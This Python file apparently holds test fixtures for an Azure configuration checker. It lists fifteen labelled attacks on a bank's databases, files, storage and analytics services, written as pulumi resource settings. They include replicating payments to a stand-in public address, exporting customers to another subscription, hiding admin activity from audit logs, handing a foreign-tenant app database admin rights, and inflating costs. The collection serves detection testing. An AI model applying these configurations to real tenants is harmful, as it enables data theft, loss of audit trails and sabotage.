"""Attacks on Azure: databases, caches, files, analytics and copies of them (2026-12-01, twenty-first set).

Properties by pulumi-azure-native 3.29.0. What a service does with them by its documentation, as known unless a date
stands beside it.
"""

from ..blind import HERE, OURS, RG, THEIR_TENANT, az
from . import Attack
from .blind_money import STACK

RES = ("FJ-RES-", "FJ-IDN-", "FJ-ESC-", "FJ-EXP-")
ENC = ("FJ-ENC-", "FJ-IDN-", "FJ-ESC-")
IDN = ("FJ-IDN-", "FJ-ESC-", "FJ-RES-", "FJ-EXP-")
RSL = ("FJ-RSL-", "FJ-ESC-")
COST = ("FJ-COST-", "FJ-ESC-")
THEIR_APP = "22222222-3333-4444-5555-666666666666"
VAULT = f"{OURS}.KeyVault/vaults/kv-bank"
FABRIC = f"{OURS}.RecoveryServices/vaults/rsv-bank/replicationFabrics"

ATTACKS = (
    Attack("each row of payments is copied to a server at a public address", RES, (
        az("sql:DistributedAvailabilityGroup", {
            **RG, "managedInstanceName": "mi-payments", "distributedAvailabilityGroupName": "dag-payments",
            "databases": [{"databaseName": "payments"}], "failoverMode": "None", "instanceLinkRole": "Primary",
            "instanceAvailabilityGroupName": "ag-mi", "partnerAvailabilityGroupName": "ag-partner",
            "partnerEndpoint": "TCP://203.0.113.10:5022", "replicationMode": "Async", "seedingMode": "Automatic"}),),
        "critical", "the link sends the whole database and then each change (Azure SQL Managed Instance, 'Managed "
        "Instance link')"),
    Attack("an elastic job writes the customers into a server of another subscription", RES, (
        az("sql:JobStep", {
            **RG, "serverName": "sql-bank", "jobAgentName": "agent", "jobName": "nightly", "stepName": "export",
            "targetGroup": f"{OURS}.Sql/servers/sql-bank/jobAgents/agent/targetGroups/all",
            "action": {"type": "TSql", "source": "Inline", "value": "SELECT * FROM dbo.customers"},
            "output": {"type": "SqlDatabase", "subscriptionId": "99999999-0000-0000-0000-000000000001",
                       "resourceGroupName": "rg", "serverName": "collector", "databaseName": "in",
                       "tableName": "customers"}}),),
        "critical", "the rows of each database of the target group are inserted there (Azure SQL, 'Elastic jobs', "
        "output)"),
    Attack("the disks of the bank are encrypted with a key that another tenant keeps", ENC, (
        az("compute:DiskEncryptionSet", {
            **HERE, "diskEncryptionSetName": "des-bank", "encryptionType": "EncryptionAtRestWithCustomerKey",
            "rotationToLatestKeyVersionEnabled": True, "federatedClientId": THEIR_APP,
            "activeKey": {"keyUrl": "https://kv-bank.vault.azure.net/keys/disks"},
            "identity": {"type": "UserAssigned",
                         "userAssignedIdentities": [f"{OURS}.ManagedIdentity/userAssignedIdentities/des"]}}),),
        "critical", "whoever owns that tenant takes the key away, and with it each disk (Azure Disk Storage, 'Encrypt "
        "managed disks with cross-tenant customer-managed keys')"),
    Attack("a payment that was confirmed is lost with the next failure of the database", RSL, (
        az("dbformysql:Configuration", {
            **RG, "serverName": "mysql-payments", "configurationName": "innodb_flush_log_at_trx_commit", "value": "0",
            "source": "user-override"}),),
        "major", "transactions of about a second are lost (MySQL 8.0 Reference Manual, "
        "'innodb_flush_log_at_trx_commit')"),
    Attack("the log of a database leaves out what the administrator does", ("FJ-RSL-", "FJ-ESC-", "FJ-EXP-"), (
        az("dbformysql:Configuration", {
            **RG, "serverName": "mysql-payments", "configurationName": "audit_log_exclude_users",
            "value": "dbadmin,payments_app", "source": "user-override"}),),
        "major", "nothing of these users is recorded (Azure Database for MySQL, 'Audit logs')"),
    Attack("disks of machines are copied to the second region without a key of the bank", ENC, (
        az("recoveryservices:ReplicationProtectedItem", {
            **RG, "resourceName": "rsv-bank", "fabricName": "uaenorth", "protectionContainerName": "north",
            "replicatedProtectedItemName": "vm-payments", "properties": {
                "policyId": f"{OURS}.RecoveryServices/vaults/rsv-bank/replicationPolicies/day",
                "providerSpecificDetails": {
                    "instanceType": "A2A", "fabricObjectId": f"{OURS}.Compute/virtualMachines/vm-payments",
                    "recoveryContainerId": f"{FABRIC}/uaecentral/replicationProtectionContainers/central",
                    "recoveryResourceGroupId":
                        "/subscriptions/00000000-0000-0000-0000-000000000001/resourceGroups/rg-central",
                    "vmManagedDisks": [{
                        "diskId": f"{OURS}.Compute/disks/payments-data",
                        "primaryStagingAzureStorageAccountId": f"{OURS}.Storage/storageAccounts/stcache",
                        "recoveryResourceGroupId":
                            "/subscriptions/00000000-0000-0000-0000-000000000001/resourceGroups/rg-central",
                        "recoveryTargetDiskAccountType": "Premium_LRS"}]}}}),),
        "major", "each replica disk has a key of the platform (Azure Site Recovery, 'Replicate machines with "
        "customer-managed keys enabled disks')"),
    Attack("every user of the domain reads and restores each file", IDN, (
        az("netapp:Account", {
            **HERE, "accountName": "anf-bank", "activeDirectories": [{
                "domain": "corp.bank.local", "dns": "10.20.0.4,10.20.0.5", "smbServerName": "ANF",
                "username": "svc-anf", "aesEncryption": True, "ldapSigning": True, "ldapOverTLS": True,
                "encryptDCConnections": True, "backupOperators": ["Domain Users"]}],
            "identity": {"type": "SystemAssigned"},
            "encryption": {"keySource": "Microsoft.KeyVault", "keyVaultProperties": {
                "keyName": "anf", "keyVaultUri": "https://kv-bank.vault.azure.net", "keyVaultResourceId": VAULT}}}),),
        "critical", "such users pass the permissions of files (Azure NetApp Files, 'Create and manage Active Directory "
        "connections', backup policy users)"),
    Attack("files of payments cross the network in plain text", ("FJ-ENC-", "FJ-ESC-"), (
        az("netapp:CapacityPoolVolume", {
            **HERE, "accountName": "anf-bank", "poolName": "premium", "volumeName": "payments",
            "creationToken": "payments", "serviceLevel": "Premium", "usageThreshold": 107374182400,
            "subnetId": f"{OURS}.Network/virtualNetworks/hub/subnets/anf", "protocolTypes": ["NFSv3"],
            "encryptionKeySource": "Microsoft.KeyVault",
            "keyVaultPrivateEndpointResourceId": f"{OURS}.Network/privateEndpoints/kv",
            "exportPolicy": {"rules": [{
                "ruleIndex": 1, "allowedClients": "10.20.4.0/24", "unixReadWrite": True, "unixReadOnly": False,
                "nfsv3": True, "nfsv41": False, "cifs": False, "hasRootAccess": False}]}}),),
        "major", "NFSv3 has no encryption in transit (Azure NetApp Files, 'Understand data encryption in Azure NetApp "
        "Files')"),
    Attack("earlier versions of each blob are gone on the day they are replaced", RSL, (
        az("storage:ManagementPolicy", {
            **RG, "accountName": "stpayments", "managementPolicyName": "default", "policy": {"rules": [{
                "name": "versions", "type": "Lifecycle", "enabled": True, "definition": {
                    "filters": {"blobTypes": ["blockBlob"]},
                    "actions": {"version": {"delete": {"daysAfterCreationGreaterThan": 0}},
                                "snapshot": {"delete": {"daysAfterCreationGreaterThan": 0}}}}}]}}),),
        "major", "what an attacker overwrites cannot be brought back (Azure Blob Storage, 'Lifecycle management "
        "policies')"),
    Attack("a container of documents reserves a million request units", COST, (
        STACK,
        az("cosmosdb:SqlResourceSqlContainer", {
            **RG, "accountName": "cosmos-bank", "databaseName": "payments", "containerName": "payments",
            "resource": {"id": "payments", "partitionKey": {"paths": ["/id"], "kind": "Hash"}},
            "options": {"throughput": 1000000}}),),
        "major", "about 58,000 dollars a month, used or not (Azure Cosmos DB pricing, provisioned throughput)"),
    Attack("two shares of a hundred tebibytes are paid for in full", COST, (
        STACK,
        az("storage:StorageAccount", {
            **HERE, "accountName": "stfiles", "kind": "FileStorage", "sku": {"name": "Premium_ZRS"},
            "publicNetworkAccess": "Disabled", "allowBlobPublicAccess": False, "allowSharedKeyAccess": False,
            "minimumTlsVersion": "TLS1_2", "enableHttpsTrafficOnly": True, "allowCrossTenantReplication": False,
            "encryption": {"keySource": "Microsoft.Keyvault", "keyVaultProperties": {
                "keyName": "files", "keyVaultUri": "https://kv-bank.vault.azure.net"}}}, "account"),
        az("storage:FileShare", {
            **RG, "accountName": "stfiles", "shareName": "archive", "shareQuota": 102400, "enabledProtocols": "SMB"},
           "archive"),
        az("storage:FileShare", {
            **RG, "accountName": "stfiles", "shareName": "copies", "shareQuota": 102400, "enabledProtocols": "SMB"},
           "copies"),),
        "major", "a premium share costs its size, tens of thousands of dollars a month (Azure Files, 'Understand "
        "billing')"),
    Attack("a workspace computes in the account of Databricks, outside each network of the bank", RES, (
        az("databricks:Workspace", {
            **HERE, "workspaceName": "dbw-bank", "computeMode": "Serverless", "publicNetworkAccess": "Disabled",
            "requiredNsgRules": "NoAzureDatabricksRules", "sku": {"name": "premium"}}),),
        "major", "no firewall of the bank sees what leaves (Azure Databricks, 'Serverless workspaces')"),
    Attack("pipelines of data run on machines that somebody shared by a key", RES, (
        az("datafactory:IntegrationRuntime", {
            **RG, "factoryName": "adf-bank", "integrationRuntimeName": "onprem", "properties": {
                "type": "SelfHosted", "linkedInfo": {
                    "authorizationType": "Key", "key": {"type": "SecureString", "value": "IR@shared"}}}}),),
        "critical", "each row and each password passes those machines (Azure Data Factory, 'Create a shared "
        "self-hosted integration runtime')"),
    Attack("pipelines of the factory are kept in a repository of a stranger", ("FJ-ESC-", "FJ-RES-", "FJ-IDN-"), (
        az("datafactory:Factory", {
            **HERE, "factoryName": "adf-bank", "publicNetworkAccess": "Disabled",
            "identity": {"type": "UserAssigned",
                         "userAssignedIdentities": [f"{OURS}.ManagedIdentity/userAssignedIdentities/adf"]},
            "encryption": {"keyName": "adf", "vaultBaseUrl": "https://kv-bank.vault.azure.net",
                           "identity": {"userAssignedIdentity":
                                        f"{OURS}.ManagedIdentity/userAssignedIdentities/adf"}},
            "repoConfiguration": {"type": "FactoryGitHubConfiguration", "accountName": "data-helpers-ltd",
                                  "repositoryName": "pipelines", "collaborationBranch": "main", "rootFolder": "/"}}),),
        "major", "whoever owns it reads each pipeline and writes what is published next (Azure Data Factory, 'Source "
        "control')"),
    Attack("a script makes a program of another tenant administrator of the payments", IDN, (
        az("kusto:Script", {
            **RG, "clusterName": "adx-bank", "databaseName": "payments", "scriptName": "rights",
            "continueOnErrors": False,
            "scriptContent": f".add database payments admins ('aadapp={THEIR_APP};{THEIR_TENANT}')"}),),
        "critical", "it reads and drops each table (Azure Data Explorer, 'Manage database security roles')"),
)  # fmt: skip
